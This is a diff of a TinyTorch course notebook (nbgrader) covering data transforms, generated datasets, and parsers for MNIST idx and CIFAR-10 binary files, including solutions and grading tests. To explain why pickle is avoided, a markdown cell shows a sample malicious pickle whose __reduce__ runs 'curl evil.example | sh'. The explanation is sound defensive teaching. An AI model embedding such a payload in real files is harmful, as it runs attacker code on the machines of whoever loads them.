             raise ValueError(f"Normalize needs every std > 0, got {self.std.tolist()}.")
 
     def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
-        """(x - mean) / std, broadcasting mean and std over axis 1 (channels or features).
-
-        HINT: reshape mean and std to (1, C, 1, ..., 1): one 1 for every axis after the channels.
-        """
+        """(x - mean) / std, with mean and std applying along axis 1 (channels or features),
+        in x's floating dtype (float32 stays float32)."""
         x = _float_batch(x, "Normalize")
         channels = max(len(self.mean), len(self.std))
         if channels not in (1, x.shape[1]):
@@ -738,6 +672,11 @@ class Compose(Transform):
 
     def extra_repr(self) -> str:
         return ", ".join(repr(t) for t in self.transforms)
+
+# %% [markdown]
+# **Stuck?** (optional) Broadcasting lines shapes up from the right, so a `(C,)` mean would meet
+# the *last* axis. Reshape it to `(1, C, 1, …, 1)`, one 1 for every axis after the channels,
+# and cast it to `x.dtype`. `Compose` is a loop over its transforms.
 
 # %% nbgrader={"grade": true, "grade_id": "test-normalize-compose", "locked": true, "points": 8, "schema_version": 3, "solution": false}
 def test_unit_normalize_and_compose():
@@ -791,7 +730,7 @@ if __name__ == "__main__":
 # the window's pixels. Choosing one window per sample is then one fancy index:
 #
 # ```
-#   windows[arange(N), :, top, left]        top, left: (N,) random integers
+#   windows[every n, :, top, left]          top, left: (N,) random offsets
 #            │         │   └────┴── the start of sample n's window is (top[n], left[n])
 #            │         └── all channels
 #            └── sample n
@@ -842,13 +781,8 @@ class RandomCrop(Transform):
     def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
         """(N, [C,] H, W) -> (N, [C,] h, w): one random window per sample, no loop over samples.
 
-        HINTS:
-        - np.pad(x, [(0, 0)] * (x.ndim - 2) + [(p, p), (p, p)]) pads only the last two axes.
-        - windows = sliding_window_view(padded, (h, w), axis=(-2, -1))
-        - top = rng.integers(0, H - h + 1, size=N), left likewise (H, W: the padded sizes).
-        - windows[(np.arange(N), *([slice(None)] * (x.ndim - 3)), top, left)] picks one
-          window per sample, keeping the channel axis of a 4-D batch.
-        """
+        Pad the last two axes with `padding` zeros; each sample's window starts at a position
+        drawn uniformly from `rng` among all those that fit in the padded image."""
         x = _image_batch(x, "RandomCrop")
         rng = get_rng() if rng is None else rng
         (h, w), p = self.size, self.padding
@@ -880,10 +814,8 @@ class RandomHorizontalFlip(Transform):
         self.p = float(p)
 
     def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
-        """A new batch in which each chosen image has its last axis reversed.
-
-        HINT: flip = rng.random(N) < p; copy x, then assign x[flip][..., ::-1] to the chosen rows.
-        """
+        """A new batch (x is not changed) in which each image, with probability p drawn from
+        `rng` per sample, has its last axis reversed."""
         x = _image_batch(x, "RandomHorizontalFlip")
         rng = get_rng() if rng is None else rng
         ### BEGIN SOLUTION
@@ -895,6 +827,13 @@ class RandomHorizontalFlip(Transform):
 
     def extra_repr(self) -> str:
         return f"p={self.p}"
+
+# %% [markdown]
+# **Stuck?** (optional) `np.pad(x, [(0, 0)] * (x.ndim - 2) + [(p, p), (p, p)])` pads only the
+# last two axes. `rng.integers(0, H - h + 1, size=N)` draws the tops (the lefts likewise, `H`
+# being the padded height); the index `(np.arange(N), *channels, top, left)`, with
+# `channels = (slice(None),) * (x.ndim - 3)`, picks one window per sample. For the flip:
+# `rng.random(N) < p` is the coin per sample, and `x[flip][..., ::-1]` the mirrored images.
 
 # %% nbgrader={"grade": true, "grade_id": "test-random-crop-flip", "locked": true, "points": 10, "schema_version": 3, "solution": false}
 def test_unit_random_crop_and_flip():
@@ -956,12 +895,11 @@ if __name__ == "__main__":
     test_unit_random_crop_and_flip()
 
 # %% [markdown]
-# ## 5. Datasets you can generate
+# ## 4. Datasets you can generate (given code)
 #
-# Real datasets are large, need a download and take minutes to train on. For tests, demos and
-# the first milestones you want data that is **small, instant, offline and deterministic**, with
-# a known difficulty. Generated data gives all four, so the package ships generators instead of
-# data files:
+# Real datasets are large, need a download and take minutes to train on. Tests, demos and the
+# first milestones want data that is **small, instant, offline and deterministic**, with a known
+# difficulty, so the package ships generators (given code, in `tinytorch/data/_generated.py`):
 #
 # | generator | data | hard for… |
 # |---|---|---|
@@ -970,296 +908,64 @@ if __name__ == "__main__":
 # | `make_blobs(n_per_class, centers, n_features, std)` | Gaussian clusters | nobody: a sanity check |
 # | `load_digits(n_per_class, size)` | 8×8 images of the digits 0–9, drawn from stroke templates | a real but small image task |
 #
-# **Convention:** every generator returns `(X, y)` NumPy arrays, features float32 and labels
-# int64, **shuffled** (so `X[:800]` is a fair training split), like scikit-learn. Wrap them as you
-# need: `TensorDataset(*make_spirals(100))`. Each takes a `seed`; with `seed=None` it draws
-# from TinyTorch's generator, so `manual_seed` reproduces it too.
-#
-# Your turn: the three point generators.
+# Every generator returns `(X, y)` NumPy arrays, features float32 and labels int64,
+# **shuffled** (so `X[:800]` is a fair training split), like scikit-learn; wrap them as you
+# need, `TensorDataset(*make_spirals(100))`. Each takes a `seed`; with `seed=None` it draws from
+# TinyTorch's generator, so `manual_seed` reproduces it too. `load_digits` draws each digit's
+# strokes (a `0` is an ellipse, a `4` three lines) under its own random rotation, shear, scale,
+# shift and pen width, vectorised over samples and pixels. The cell below checks them live,
+# including that the digits are learnable: softmax regression trained on one sample of digits
+# and tested on another.
 
-# %% nbgrader={"grade": false, "grade_id": "toy-datasets", "locked": false, "schema_version": 3, "solution": true}
-#| export
-def _generator(seed: int | None) -> np.random.Generator:
-    """np.random.default_rng(seed), or TinyTorch's generator when seed is None."""
-    if seed is None:
-        return get_rng()
-    if not _is_int(seed):
-        raise TypeError(f"seed must be an integer or None, got {seed!r}.")
-    return np.random.default_rng(seed)
-
-
-def _check_count(value: Any, what: str, minimum: int = 1) -> int:
-    if not _is_int(value) or value < minimum:
-        raise ValueError(f"{what} must be an integer >= {minimum}, got {value!r}.")
-    return int(value)
-
-
-def _shuffled(X: np.ndarray, y: np.ndarray, rng: np.random.Generator) -> tuple[np.ndarray, np.ndarray]:
-    order = rng.permutation(len(y))
-    return X[order].astype(np.float32), y[order].astype(np.int64)
-
-
-def make_xor(n: int = 200, noise: float = 0.1, seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
-    """The XOR problem: points near the corners (0,0), (0,1), (1,0), (1,1); label = x0 XOR x1.
-
-    Returns X (n, 2) float32 (corner + noise * standard normal) and y (n,) int64.
-    HINT: corners = rng.integers(0, 2, size=(n, 2)); the label is corners[:, 0] ^ corners[:, 1].
-    """
-    n, rng = _check_count(n, "n"), _generator(seed)
-    ### BEGIN SOLUTION
-    corners = rng.integers(0, 2, size=(n, 2))
-    X = corners + noise * rng.standard_normal((n, 2))
-    return X.astype(np.float32), (corners[:, 0] ^ corners[:, 1]).astype(np.int64)
-    ### END SOLUTION
-
-
-def make_spirals(n_per_class: int = 100, classes: int = 3, noise: float = 0.2,
-                 seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
-    """Interleaved spiral arms, one per class (CS231n). Returns X (classes*n, 2) and y, shuffled.
-
-    Arm k: radius r = linspace(0, 1, n_per_class); angle = 4 r + 2πk/classes + noise * normal;
-    the point is (r sin(angle), r cos(angle)).
-    HINT: compute all arms at once with k = np.arange(classes)[:, None] broadcasting against r.
-    """
-    n, classes, rng = _check_count(n_per_class, "n_per_class"), _check_count(classes, "classes"), _generator(seed)
-    ### BEGIN SOLUTION
-    r = np.linspace(0.0, 1.0, n)[None, :]                       # (1, n): the same radii on every arm
-    k = np.arange(classes)[:, None]                             # (classes, 1)
-    angle = 4.0 * r + 2 * np.pi * k / classes + noise * rng.standard_normal((classes, n))
-    X = np.stack([r * np.sin(angle), r * np.cos(angle)], axis=-1).reshape(-1, 2)
-    y = np.repeat(np.arange(classes), n)
-    return _shuffled(X, y, rng)
-    ### END SOLUTION
-
-
-def make_blobs(n_per_class: int = 100, centers: int | Any = 3, n_features: int = 2, std: float = 1.0,
-               seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
-    """Gaussian clusters. `centers`: a number of clusters (centres uniform in [-10, 10]^n_features)
-    or an array (k, n_features) of centres. Returns X (k*n_per_class, n_features) and y, shuffled."""
-    n, rng = _check_count(n_per_class, "n_per_class"), _generator(seed)
-    if _is_int(centers):
-        shape = (_check_count(centers, "centers"), _check_count(n_features, "n_features"))
-        middles = rng.uniform(-10.0, 10.0, size=shape)
-    else:
-        middles = np.asarray(centers, dtype=np.float64)
-        if middles.ndim != 2 or len(middles) == 0:
-            raise ValueError(f"centers must be a count or an array (k, n_features); got shape {middles.shape}.")
-    ### BEGIN SOLUTION
-    y = np.repeat(np.arange(len(middles)), n)
-    X = middles[y] + std * rng.standard_normal((len(y), middles.shape[1]))
-    return _shuffled(X, y, rng)
-    ### END SOLUTION
-
-# %% nbgrader={"grade": true, "grade_id": "test-toy-datasets", "locked": true, "points": 6, "schema_version": 3, "solution": false}
-def test_unit_toy_datasets():
+# %% nbgrader={"grade": false, "grade_id": "check-generated", "locked": true, "schema_version": 3, "solution": false}
+def check_generated_datasets(verbose: bool = True) -> float:
+    """The given generators, checked: shapes, dtypes, labels, determinism, and learnable digits."""
     X, y = make_xor(400, noise=0.0, seed=0)
     assert X.shape == (400, 2) and X.dtype == np.float32 and y.dtype == np.int64
     np.testing.assert_array_equal(y, (X[:, 0] != X[:, 1]).astype(np.int64))
-    assert set(map(tuple, X.tolist())) == {(0.0, 0.0), (0.0, 1.0), (1.0, 0.0), (1.0, 1.0)}
-    Xn, _ = make_xor(400, noise=0.1, seed=0)
-    assert 0.05 < np.std(Xn - X) < 0.15
-
     X, y = make_spirals(50, classes=4, noise=0.0, seed=1)
     assert X.shape == (200, 2) and np.bincount(y).tolist() == [50] * 4
-    radius = np.linalg.norm(X, axis=1)
-    assert radius.max() <= 1.0 + 1e-6 and radius.min() < 1e-6
-    # Shuffled, and deterministic from the seed.
-    assert not np.array_equal(y[:50], np.zeros(50))
-    np.testing.assert_array_equal(make_spirals(50, 4, 0.3, seed=1)[0], make_spirals(50, 4, 0.3, seed=1)[0])
+    X, y = make_blobs(300, centers=np.array([[0.0, 0.0], [10.0, 10.0]]), std=0.5, seed=2)
+    np.testing.assert_allclose(X[y == 1].mean(axis=0), [10, 10], atol=0.15)
 
-    centres = np.array([[0.0, 0.0, 0.0], [10.0, 10.0, 10.0]])
-    X, y = make_blobs(300, centers=centres, std=0.5, seed=2)
-    assert X.shape == (600, 3)
-    np.testing.assert_allclose(X[y == 1].mean(axis=0), [10, 10, 10], atol=0.15)
-    np.testing.assert_allclose(X[y == 0].std(axis=0), 0.5, atol=0.1)
-    assert make_blobs(10, centers=5, n_features=4, seed=3)[0].shape == (50, 4)
-
-    manual_seed(3)
-    a = make_spirals(20)
-    manual_seed(3)
-    np.testing.assert_array_equal(make_spirals(20)[0], a[0])
-
-    ### BEGIN HIDDEN TESTS
-    import pytest
-
-    with pytest.raises(ValueError, match="n_per_class"):
-        make_spirals(0)
-    with pytest.raises(TypeError, match="seed must be an integer"):
-        make_xor(10, seed=1.5)
-    ### END HIDDEN TESTS
-
-
-if __name__ == "__main__":
-    test_unit_toy_datasets()
-
-# %% [markdown]
-# ### Digits from strokes
-#
-# `load_digits` makes a small image dataset with no files at all. Each digit is a few
-# **strokes**, polylines in a unit square (a `0` is an ellipse, a `4` is three lines, an `8`
-# two loops). Every sample draws its own handwriting: a random rotation, shear, scale and shift
-# of the strokes, a random pen width, and pixel noise. The strokes are rendered by **distance**:
-# a pixel is ink when it lies within the pen's width of a stroke.
-#
-# ```
-#   template "7"            random pen                    render at 24×24,          8×8 image
-#   (0.22,0.10)──(0.78,0.10)  rotate ±14°, shear ±0.25,   ink = 1 - (dist - width)/0.03  average 3×3 blocks
-#              ╱             scale 0.75–1.05, shift ±0.08   clipped to [0, 1]            + noise
-#   (0.42,0.90)
-# ```
-#
-# Rendering at 3× the resolution and averaging each 3×3 block (**supersampling**) anti-aliases
-# the strokes, so a line that passes between two pixel centres still leaves grey on both. The
-# distance from every pixel to a segment `a → b` is vectorised over all samples at once:
-# project the pixel onto the segment, `t = clip(((p - a)·(b - a)) / |b - a|², 0, 1)`, and measure
-# `|p - (a + t (b - a))|`. The only Python loop is over the ~19 segments of the longest digit,
-# never over samples or pixels.
-#
-# The task is learnable but not trivial. Measured with 100 training images per digit and 1 000
-# held-out ones: softmax regression on the 64 pixels reaches 92% after 200 full-batch steps
-# and 96% at convergence; a 64-64-10 MLP trained through this module's `DataLoader` (batch 32,
-# plain SGD, learning rate 0.1) passes 90% after 10 epochs (0.2 s) and ends near 95%. The
-# templates are given; your turn is the renderer.
-
-# %% nbgrader={"grade": false, "grade_id": "digit-templates", "locked": false, "schema_version": 3, "solution": false}
-#| export
-def _arc(cx: float, cy: float, rx: float, ry: float, start: float = 0.0, stop: float = 360.0,
-         points: int = 11) -> list[tuple[float, float]]:
-    """Points along an ellipse around (cx, cy), angles in degrees clockwise from 12 o'clock (y points down)."""
-    angles = np.deg2rad(np.linspace(start, stop, points))
-    return [(cx + rx * np.sin(a), cy - ry * np.cos(a)) for a in angles]
-
-
-# Each digit is a list of polylines in the unit square (x to the right, y down).
-DIGIT_STROKES: dict[int, list[list[tuple[float, float]]]] = {
-    0: [_arc(0.5, 0.5, 0.26, 0.38, points=13)],
-    1: [[(0.32, 0.28), (0.52, 0.10), (0.52, 0.90)]],
-    2: [_arc(0.5, 0.32, 0.24, 0.20, -70, 110, 7) + [(0.24, 0.90), (0.78, 0.90)]],
-    3: [_arc(0.48, 0.30, 0.24, 0.19, -60, 180, 8), _arc(0.48, 0.69, 0.27, 0.21, 0, 240, 9)],
-    4: [[(0.66, 0.90), (0.66, 0.10), (0.20, 0.64), (0.82, 0.64)]],
-    5: [[(0.76, 0.10), (0.32, 0.10), (0.28, 0.46)], _arc(0.48, 0.65, 0.26, 0.24, -60, 220, 9)],
-    6: [[(0.68, 0.10), (0.42, 0.30), (0.27, 0.62)], _arc(0.5, 0.67, 0.23, 0.22, 0, 360, 11)],
-    7: [[(0.22, 0.10), (0.78, 0.10), (0.42, 0.90)]],
-    8: [_arc(0.5, 0.29, 0.19, 0.19, 0, 360, 10), _arc(0.5, 0.70, 0.24, 0.21, 0, 360, 11)],
-    9: [_arc(0.5, 0.33, 0.23, 0.22, 0, 360, 11), [(0.73, 0.35), (0.62, 0.90)]],
-}
-
-
-def _segment_table() -> np.ndarray:
-    """(10, S, 2, 2) float32: segment s of digit d goes from [d, s, 0] to [d, s, 1], as (x, y).
-
-    Digits with fewer segments repeat their last one, which changes no distance.
-    """
-    per_digit = [[(p, q) for line in DIGIT_STROKES[d] for p, q in zip(line[:-1], line[1:])] for d in range(10)]
-    most = max(len(segments) for segments in per_digit)
-    return np.array([s + [s[-1]] * (most - len(s)) for s in per_digit], dtype=np.float32)
-
-
-_DIGIT_SEGMENTS = _segment_table()
-
-# %% nbgrader={"grade": false, "grade_id": "load-digits", "locked": false, "schema_version": 3, "solution": true}
-#| export
-def render_strokes(segments: np.ndarray, width: np.ndarray, size: int, supersample: int = 3) -> np.ndarray:
-    """Draw line segments as anti-aliased images.
-
-    segments: (N, S, 2, 2) float32 endpoints in the unit square (x, y); width: (N,) pen widths.
-    Returns (N, size, size) float32 in [0, 1]: ink = clip(1 - (distance - width) / 0.03, 0, 1),
-    computed on a grid `supersample` times finer, then averaged over supersample × supersample blocks.
-
-    HINTS:
-    - Pixel centres of the fine grid: g = (np.arange(res) + 0.5) / res with res = size * supersample;
-      px = g[None, None, :] (x, along columns) and py = g[None, :, None] (y, along rows).
-    - Keep the smallest squared distance so far, (N, res, res), and loop over the S segments only:
-      with a = segments[:, s, 0] and d = segments[:, s, 1] - a (shape each (N, 1, 1) per coordinate),
-      t = clip(((px - ax) dx + (py - ay) dy) / (dx² + dy²), 0, 1), then the squared distance to
-      (ax + t dx, ay + t dy). Guard the division for zero-length segments.
-    - Block average: reshape (N, size, supersample, size, supersample) and mean over axes (2, 4).
-    """
-    n, res = len(segments), size * supersample
-    grid = ((np.arange(res) + 0.5) / res).astype(np.float32)
-    px, py = grid[None, None, :], grid[None, :, None]
-    ### BEGIN SOLUTION
-    nearest = np.full((n, res, res), np.inf, dtype=np.float32)
-    for s in range(segments.shape[1]):
-        ax, ay = segments[:, s, 0, 0, None, None], segments[:, s, 0, 1, None, None]
-        dx, dy = segments[:, s, 1, 0, None, None] - ax, segments[:, s, 1, 1, None, None] - ay
-        t = ((px - ax) * dx + (py - ay) * dy) / np.maximum(dx * dx + dy * dy, np.float32(1e-12))
-        np.clip(t, 0.0, 1.0, out=t)
-        ex, ey = px - ax - t * dx, py - ay - t * dy
-        np.minimum(nearest, ex * ex + ey * ey, out=nearest)
-    ink = np.clip(1.0 - (np.sqrt(nearest) - width[:, None, None]) / np.float32(0.03), 0.0, 1.0)
-    return ink.reshape(n, size, supersample, size, supersample).mean(axis=(2, 4)).astype(np.float32)
-    ### END SOLUTION
-
-
-def load_digits(n_per_class: int = 100, size: int = 8, noise: float = 0.1,
-                seed: int | None = None) -> tuple[np.ndarray, np.ndarray]:
-    """Generated handwritten-style digits: X (10*n_per_class, 1, size, size) float32 in [0, 1], y int64.
-
-    Every sample is its digit's strokes under a random rotation (±14°), shear, scale and shift,
-    drawn with a random pen width, plus Gaussian pixel noise. Shuffled; deterministic from `seed`.
-    """
-    n_per_class, size, rng = _check_count(n_per_class, "n_per_class"), _check_count(size, "size", 4), _generator(seed)
-    y = rng.permutation(np.repeat(np.arange(10), n_per_class))
-    n = len(y)
-    angle = rng.uniform(-0.25, 0.25, n)
-    shear = rng.uniform(-0.25, 0.25, n)
-    scale = rng.uniform([0.75, 0.8], [1.05, 1.05], size=(n, 2))
-    cos, sin = np.cos(angle), np.sin(angle)
-    rotate = np.stack([np.stack([cos, -sin], -1), np.stack([sin, cos], -1)], axis=1)      # (n, 2, 2)
-    shear_m = np.zeros((n, 2, 2))
-    shear_m[:, 0, 0], shear_m[:, 0, 1], shear_m[:, 1, 1] = 1.0, shear, 1.0
-    affine = rotate @ shear_m * scale[:, None, :]               # rotate · shear · diag(scale), per sample
-    shift = rng.uniform(-0.08, 0.08, size=(n, 1, 1, 2))
-    centred = _DIGIT_SEGMENTS[y] - 0.5                          # (n, S, 2, 2), about the centre
-    segments = np.einsum("nij,nskj->nski", affine, centred) + 0.5 + shift
-    width = rng.uniform(0.035, 0.065, n).astype(np.float32)
-    images = render_strokes(segments.astype(np.float32), width, size)
-    images /= np.maximum(images.max(axis=(1, 2), keepdims=True), np.float32(1e-6))   # full contrast
-    images += np.float32(noise) * rng.standard_normal(images.shape, dtype=np.float32)
-    return np.clip(images, 0.0, 1.0)[:, None], y.astype(np.int64)
-
-# %% nbgrader={"grade": true, "grade_id": "test-load-digits", "locked": true, "points": 8, "schema_version": 3, "solution": false}
-def test_unit_load_digits():
-    # A horizontal stroke through the middle of the image: ink on the middle rows only.
-    bar = np.array([[[[0.1, 0.5], [0.9, 0.5]]]], dtype=np.float32)
-    image = render_strokes(bar, np.array([0.05], dtype=np.float32), size=8)
-    assert image.shape == (1, 8, 8) and image.dtype == np.float32
-    rows = image[0].mean(axis=1)
+    bar = np.array([[[[0.1, 0.5], [0.9, 0.5]]]], dtype=np.float32)   # a horizontal stroke
+    rows = render_strokes(bar, np.array([0.05], dtype=np.float32), size=8)[0].mean(axis=1)
     assert rows[3] > 0.3 and rows[4] > 0.3 and rows[0] == 0 and rows[7] == 0
-    assert 0.0 <= image.min() and image.max() <= 1.0
-
     X, y = load_digits(60, seed=0)
     assert X.shape == (600, 1, 8, 8) and X.dtype == np.float32 and y.dtype == np.int64
-    assert np.bincount(y).tolist() == [60] * 10
-    assert 0.0 <= X.min() and X.max() <= 1.0
+    assert np.bincount(y).tolist() == [60] * 10 and 0.0 <= X.min() and X.max() <= 1.0
     np.testing.assert_array_equal(load_digits(5, seed=3)[0], load_digits(5, seed=3)[0])
-    assert load_digits(2, size=16, seed=0)[0].shape == (20, 1, 16, 16)
 
-    # Learnable: softmax regression, trained on one sample, tested on another, beats 85%.
     Xtr, ytr = load_digits(150, seed=1)
     Xte, yte = load_digits(50, seed=2)
     A, B = Xtr.reshape(len(Xtr), -1), Xte.reshape(len(Xte), -1)
     W, b = np.zeros((64, 10), dtype=np.float32), np.zeros(10, dtype=np.float32)
-    for _ in range(200):
+    for _ in range(200):                                             # softmax regression, full batch
         z = A @ W + b
         p = np.exp(z - z.max(axis=1, keepdims=True))
         p /= p.sum(axis=1, keepdims=True)
         p[np.arange(len(ytr)), ytr] -= 1.0
         W -= 0.5 * A.T @ p / len(A)
         b -= 0.5 * p.mean(axis=0)
-    accuracy = ((B @ W + b).argmax(axis=1) == yte).mean()
+    accuracy = float(((B @ W + b).argmax(axis=1) == yte).mean())
     assert accuracy > 0.85, accuracy
-    # Every sample has its own handwriting: no two images of a class are the same.
-    zeros = A[ytr == 0]
-    assert len(np.unique(zeros.round(3), axis=0)) == len(zeros)
+    if verbose:
+        print("a generated 3 (8×8):")
+        for row in Xtr[np.argmax(ytr == 3), 0]:
+            print("   " + "".join(" .:-=+*#%@"[min(int(v * 10), 9)] for v in row))
+        print(f"softmax regression, 1 500 training digits, 200 steps: {accuracy:.1%} on 500 held-out ones")
+    return accuracy
+
+
+def test_generated_datasets_given_code():
+    check_generated_datasets(verbose=False)
 
 
 if __name__ == "__main__":
-    test_unit_load_digits()
+    check_generated_datasets()
 
 # %% [markdown]
-# ## 6. Real data on disk
+# ## 5. Real data on disk
 #
 # ### Images in memory: bytes, not floats
 #
@@ -1271,20 +977,13 @@ if __name__ == "__main__":
 # | once, at load time: keep float32 | 188 MB | 614 MB |
 # | per batch: keep uint8, convert each batch | **47 MB** | **154 MB** |
 #
-# Converting a batch of 64 MNIST images costs microseconds (the Memory Profiling section
-# measures it), and gathering a uint8 batch reads 4× fewer bytes than gathering a float32 one.
-# So `ImageDataset` keeps the pixels as **uint8** and converts in `get_batch`:
-#
-# ```
-#   .data      uint8 (N, C, H, W)   the pixels, as in the file        (torchvision: .data)
-#   .targets   int64 (N,)           the labels                        (torchvision: .targets)
-#   .classes   ["airplane", ...]    a name per label
-#   get_batch(idx) → (data[idx] as float32 / 255, targets[idx])       one gather, one conversion
-# ```
-#
-# Images are `(N, C, H, W)` even for grey MNIST (`C = 1`), like torchvision, so the same code
-# serves convolutions (module 09). An MLP flattens each batch: `x.reshape(len(x), -1)`, or a
-# transform `lambda x: x.reshape(len(x), -1)` on the loader.
+# Gathering a uint8 batch reads 4× fewer bytes than gathering a float32 one, and converting
+# only the batch is cheap (the Memory Profiling section measures both). So `ImageDataset` keeps
+# `.data` as **uint8** `(N, C, H, W)` (torchvision's `.data`), `.targets` as int64 and
+# `.classes` as names, and converts in `get_batch`: `(data[idx] as float32 / 255, targets[idx])`.
+# Images are `(N, C, H, W)` even for grey MNIST (`C = 1`), so the same batches serve
+# convolutions (module 09); an MLP flattens each batch with a transform such as
+# `lambda x: x.reshape(len(x), -1)`.
 #
 # Your turn: `get_batch`, reusing `TensorDataset`'s gather.
 
@@ -1319,11 +1018,8 @@ class ImageDataset(TensorDataset):
         return self.arrays[1]
 
     def get_batch(self, indices: Any) -> tuple[np.ndarray, np.ndarray]:
-        """(float32 images in [0, 1], int64 labels) for `indices`: one gather, then one conversion.
-
-        HINT: super().get_batch(indices) gathers the uint8 images and the labels; convert the
-        images with astype(np.float32) and divide by 255 in place (`/=`, no second array).
-        """
+        """(float32 images in [0, 1], int64 labels) for `indices`: one gather of the uint8
+        images (TensorDataset's), then one conversion of the gathered batch only."""
         ### BEGIN SOLUTION
         images, labels = super().get_batch(indices)
         pixels = images.astype(np.float32)
@@ -1335,7 +1031,6 @@ class ImageDataset(TensorDataset):
         _, c, h, w = self.data.shape
         return (f"{self.name}({len(self):,} images of {c}×{h}×{w}, {len(self.classes)} classes; "
                 f"uint8 in memory, {self.data.nbytes / 1e6:.1f} MB)")
-
 # %% nbgrader={"grade": true, "grade_id": "test-image-dataset", "locked": true, "points": 6, "schema_version": 3, "solution": false}
 def test_unit_image_dataset():
     import pytest
@@ -1359,6 +1054,31 @@ def test_unit_image_dataset():
 if __name__ == "__main__":
     test_unit_image_dataset()
 
+# %% nbgrader={"grade": false, "grade_id": "dataloader-test-helpers", "locked": false, "schema_version": 3, "solution": false}
+# File makers for the tests below: generated files in the real formats.
+def idx_bytes(array: np.ndarray) -> bytes:
+    """A uint8 array in the idx format: magic (0, 0, 0x08, ndim), the sizes (big-endian), the bytes."""
+    header = bytes([0, 0, 0x08, array.ndim]) + np.array(array.shape, dtype=">u4").tobytes()
+    return header + np.ascontiguousarray(array, dtype=np.uint8).tobytes()
+
+
+def cifar_bytes(images: np.ndarray, labels: np.ndarray) -> bytes:
+    """Records in the CIFAR-10 binary format: 1 label byte, then 3 072 pixel bytes (R, G, B planes)."""
+    records = np.concatenate([labels.reshape(-1, 1), images.reshape(len(images), -1)], axis=1)
+    return records.astype(np.uint8).tobytes()
+
+
+@contextlib.contextmanager
+def registered_checksums(files: dict[str, bytes]):
+    """Temporarily register the sha256 of generated files (the real registry lists the real files)."""
+    saved = dict(CHECKSUMS)
+    CHECKSUMS.update({name: "sha256:" + hashlib.sha256(data).hexdigest() for name, data in files.items()})
+    try:
+        yield
+    finally:
+        CHECKSUMS.clear()
+        CHECKSUMS.update(saved)
+
 # %% [markdown]
 # ### The idx format (MNIST)
 #
@@ -1376,8 +1096,8 @@ if __name__ == "__main__":
 # ```
 #
 # The labels file has magic 2049 (`08`, one dimension) and then 60 000 label bytes. Reading it
-# takes no loop at all: `np.frombuffer` views the bytes after the header as an array (no copy)
-# and `reshape` gives it the sizes from the header.
+# takes no loop at all: the bytes after the header can be *viewed* as an array (no copy) and
+# given the sizes from the header.
 #
 # A parser must **check everything the header claims**. A wrong magic number means the wrong
 # file (images where labels were expected). A size mismatch means a truncated or padded file.
@@ -1407,13 +1127,8 @@ def read_idx(path: str | Path, magic: int | None = None) -> np.ndarray:
 
     magic: the expected magic number (2051 for MNIST images, 2049 for labels), or None for any.
     Returns a read-only array viewing the file's bytes, shaped by the header's sizes.
-
-    HINTS:
-    - data[0:2] must be b"\\x00\\x00" and data[2] the type code IDX_UBYTE; data[3] is D.
-    - The sizes: np.frombuffer(data, dtype=">u4", count=D, offset=4) (big-endian uint32).
-    - The file must hold exactly 4 + 4*D + prod(sizes) bytes.
-    - np.frombuffer(data, dtype=np.uint8, offset=4 + 4*D).reshape(sizes) is the result.
-    Every problem raises ValueError naming the file.
+    Every problem (not 00 00 08 D, a wrong magic, a size that disagrees with the header)
+    raises ValueError naming the file and the facts (the magic numbers, the promised sizes).
     """
     path = Path(path)
     data = _read_maybe_gzip(path)
@@ -1436,6 +1151,12 @@ def read_idx(path: str | Path, magic: int | None = None) -> np.ndarray:
                          f"but the file has {len(data):,} bytes. It is truncated or not an idx file.")
     return np.frombuffer(data, dtype=np.uint8, offset=header).reshape(sizes)
     ### END SOLUTION
+
+# %% [markdown]
+# **Stuck?** (optional) `int.from_bytes(data[0:4], "big")` is the magic number.
+# `np.frombuffer(data, dtype=">u4", count=D, offset=4)` reads the D big-endian sizes; the file
+# must hold exactly `4 + 4·D + prod(sizes)` bytes; `np.frombuffer(data, np.uint8, offset=4 + 4·D)`
+# then views the elements, and `reshape(sizes)` gives them their shape.
 
 # %% nbgrader={"grade": true, "grade_id": "test-read-idx", "locked": true, "points": 8, "schema_version": 3, "solution": false}
 def test_unit_read_idx():
@@ -1486,10 +1207,9 @@ if __name__ == "__main__":
 # %% [markdown]
 # ### The CIFAR-10 binary format, and why we never unpickle
 #
-# CIFAR-10 (Krizhevsky, 2009) is published in three versions. The "Python version" that most
-# tutorials use is six **pickle** files. Loading a pickle means running a small program that
-# the file contains: `pickle.load` calls whatever function the file names, with arguments the
-# file chooses. This is a complete pickle:
+# CIFAR-10 (Krizhevsky, 2009) is published in three versions. The "Python version" most
+# tutorials use is six **pickle** files, and loading a pickle runs a small program the file
+# contains: `pickle.load` calls whatever function the file names. This is a complete pickle:
 #
 # ```python
 # class Payload:
@@ -1497,24 +1217,12 @@ if __name__ == "__main__":
 #         return (os.system, ("curl evil.example | sh",))   # pickle.load() runs this
 # ```
 #
-# So a tampered or mis-served "dataset" can run any command on your machine when you load it.
-# A checksum verified *before* loading makes a pickle safe in practice (only the published file
-# passes), but one forgotten check is enough. The same problem is why `torch.load` now defaults
-# to `weights_only=True` and why model hubs moved to `safetensors`. A data format should be
-# **data**: bytes that a parser reads, never code that an interpreter runs.
-#
-# So we use CIFAR-10's **binary version**, whose files hold plain records:
-#
-# ```
-#   one record = 3 073 bytes:  [label] [1024 red] [1024 green] [1024 blue]
-#                               0..9    each plane 32×32, row-major
-#   data_batch_1.bin … data_batch_5.bin: 10 000 records each (training)
-#   test_batch.bin: 10 000 records (test)
-# ```
-#
-# Parsing is, again, a view and a reshape: `(N, 3073)` records, column 0 is the label, columns
-# 1..3072 reshape to `(N, 3, 32, 32)`, already channels-first. TinyTorch's own checkpoints follow
-# the same rule: `np.savez` without pickle.
+# A checksum verified first makes that safe in practice, but one forgotten check is enough (the
+# reason `torch.load` now defaults to `weights_only=True`). A data format should be **data**, so
+# we use the **binary version**: records of 3 073 bytes, `[label 0..9] [1024 red] [1024 green]
+# [1024 blue]` (each plane 32×32, row-major); `data_batch_1.bin … data_batch_5.bin` hold 10 000
+# records each, `test_batch.bin` 10 000 more. Parsing is again a view of the bytes, given a
+# shape, already channels-first.
 
 # %% nbgrader={"grade": false, "grade_id": "read-cifar", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -1526,13 +1234,9 @@ def read_cifar10_bin(path: str | Path) -> tuple[np.ndarray, np.ndarray]:
     """Read a CIFAR-10 binary batch file: (images uint8 (N, 3, 32, 32), labels int64 (N,)).
 
